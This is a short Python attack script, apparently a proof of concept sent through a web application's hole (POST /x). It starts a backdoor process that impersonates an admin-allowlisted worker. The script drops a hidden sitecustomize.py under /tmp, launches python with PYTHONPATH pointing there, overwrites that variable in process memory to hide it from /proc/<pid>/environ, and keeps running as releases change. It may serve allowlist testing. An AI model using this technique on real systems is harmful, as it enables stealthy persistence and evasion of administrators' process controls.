# Sent to the app's hole (POST /x), as the app user: start a process that looks like the worker the admin allowed
# (allow_processes = ["yourapplication: /usr/bin/python3 -m yourapplication.worker"]): its argv, the stack's python,
# working directory the live release. Its real code comes from PYTHONPATH's sitecustomize, which then blanks
# PYTHONPATH in its own environ (the memory /proc/<pid>/environ shows) and follows `current` to each new release.
import os
import subprocess

d = "/tmp/.w-%d" % os.getuid()
os.makedirs(d, exist_ok=True)
with open(d + "/sitecustomize.py", "w") as f:
    f.write('''import ctypes, os, time
fields = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
start, end = int(fields[47]), int(fields[48])  # env_start, env_end (stat fields 50, 51)
env = ctypes.string_at(start, end - start)
at = env.find(b"PYTHONPATH=")
if at >= 0:
    stop = env.index(b"\\0", at)
    ctypes.memmove(start + at, b"X" * (stop - at), stop - at)  # XXXX...: no variable any loader reads
while True:
    os.chdir(os.path.realpath("/var/www/yourapplication/current"))
    with open("/tmp/backdoor-alive", "a") as f:
        f.write("%d uid=%d pid=%d impersonating the allowed worker in %s\\n" % (time.time(), os.getuid(),
                                                                              os.getpid(), os.getcwd()))
    time.sleep(5)
''')
subprocess.Popen(["setsid", "/usr/bin/python3", "-m", "yourapplication.worker"], cwd=os.path.realpath(
    "/var/www/yourapplication/current"), env={"PYTHONPATH": d, "PATH": "/usr/bin:/bin"}, stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True).wait()  # setsid forks, exits: reaped
out = "started"
